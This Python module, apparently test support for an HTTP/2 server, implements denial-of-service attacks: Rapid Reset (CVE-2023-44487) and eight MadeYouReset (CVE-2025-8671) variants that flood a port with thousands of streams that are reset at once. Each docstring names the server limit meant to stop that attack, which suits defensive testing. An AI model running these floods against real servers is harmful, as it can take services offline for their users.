"""Attacks by streams that end at once: the server works, the attacker never has to wait."""

from Support.attacks.attacker import Attacker, Seen
from Support.http2 import (
    CANCEL, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, PRIORITY, call_headers, frame,
    headers, message, reset, settings, window_update, WIDEST_WINDOW)

STREAMS = 20_000
"""A hundred times what the limits allow."""
BATCH = 50
"""Streams per write."""
_OPEN = PREFACE + settings()


def _over_streams(port: int, one_stream) -> Seen:
    """Sends what `one_stream` makes of each stream number."""
    def chunks():
        yield _OPEN
        for first in range(1, 2 * STREAMS, 2 * BATCH):
            yield b"".join(one_stream(first + 2 * place) for place in range(BATCH))

    with Attacker(port) as attacker:
        return attacker.pump(chunks())


def rapid_reset(port: int, path: str) -> Seen:
    """Opens streams and cancels each at once (CVE-2023-44487): the limit of streams never bites.

    Stopped by the limit of resets received, 100 at once and 10 more each second.
    """
    block = headers(call_headers(path))
    return _over_streams(port, lambda stream: (
        frame(HEADERS, END_HEADERS, stream, block) + reset(stream, CANCEL)))


def rapid_reset_of_whole_calls(port: int, path: str) -> Seen:
    """The same with complete calls, so that every handler has started.

    Stopped by the limit of resets received. Calls that were answered before their reset count as
    answered, so the attack may also run into its own end.
    """
    block = headers(call_headers(path))
    return _over_streams(port, lambda stream: (
        frame(HEADERS, END_HEADERS, stream, block)
        + frame(DATA, END_STREAM, stream, message(b"")) + reset(stream, CANCEL)))


def _made_to_reset(port: int, path: str, provoke, **sent) -> Seen:
    block = headers(call_headers(path, *sent.get("extra", ())))
    flags = END_HEADERS | sent.get("flags", 0)
    return _over_streams(port, lambda stream: (
        frame(HEADERS, flags, stream, block) + provoke(stream)))


def reset_by_empty_window_update(port: int, path: str) -> Seen:
    """MadeYouReset (CVE-2025-8671): WINDOW_UPDATE of 0 makes the server reset a stream itself.

    Stopped by the limit of resets sent and other glitches, 200 in 30 s, or as an error of the
    connection.
    """
    return _made_to_reset(port, path, lambda stream: window_update(stream, 0))


def reset_by_window_overflow(port: int, path: str) -> Seen:
    """MadeYouReset by a stream's window above 2^31-1. Stopped by the limit of glitches."""
    return _made_to_reset(port, path, lambda stream: window_update(stream, WIDEST_WINDOW))


def reset_by_data_after_the_end(port: int, path: str) -> Seen:
    """MadeYouReset by DATA on a half-closed stream. Stopped by the limit of glitches, or as an
    error of the connection."""
    return _made_to_reset(
        port, path, lambda stream: frame(DATA, END_STREAM, stream, b"x"), flags=END_STREAM)


def reset_by_headers_after_the_end(port: int, path: str) -> Seen:
    """MadeYouReset by HEADERS on a half-closed stream. Stopped like the one with DATA."""
    block = headers(call_headers(path))
    return _made_to_reset(
        port, path, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block),
        flags=END_STREAM)


def reset_by_priority_of_itself(port: int, path: str) -> Seen:
    """MadeYouReset by a stream that depends on itself. Stopped by the limit of glitches, or as an
    error of the connection."""
    return _made_to_reset(port, path, lambda stream: frame(
        PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10"))


def reset_by_wrong_content_length(port: int, path: str) -> Seen:
    """MadeYouReset by a content-length that the DATA does not keep. Stopped by the limit of
    glitches."""
    return _made_to_reset(
        port, path, lambda stream: frame(DATA, END_STREAM, stream, message(b"")),
        extra=[("content-length", "1000")])


def reset_by_forbidden_header(port: int, path: str) -> Seen:
    """MadeYouReset by a header that HTTP/2 forbids. Stopped by the limit of glitches."""
    return _made_to_reset(port, path, lambda stream: b"", extra=[("connection", "close")])


def reset_by_trailers_without_end(port: int, path: str) -> Seen:
    """MadeYouReset by a second HEADERS that does not end the stream. Stopped by the limit of
    glitches, or as an error of the connection."""
    block = headers([("x-trailer", "v")])
    return _made_to_reset(
        port, path, lambda stream: frame(HEADERS, END_HEADERS, stream, block))


MADE_TO_RESET = {each.__name__: each for each in (
    reset_by_empty_window_update, reset_by_window_overflow, reset_by_data_after_the_end,
    reset_by_headers_after_the_end, reset_by_priority_of_itself, reset_by_wrong_content_length,
    reset_by_forbidden_header, reset_by_trailers_without_end)}
RESET_ATTACKS = {
    "rapid_reset": rapid_reset, "rapid_reset_of_whole_calls": rapid_reset_of_whole_calls,
    **MADE_TO_RESET}
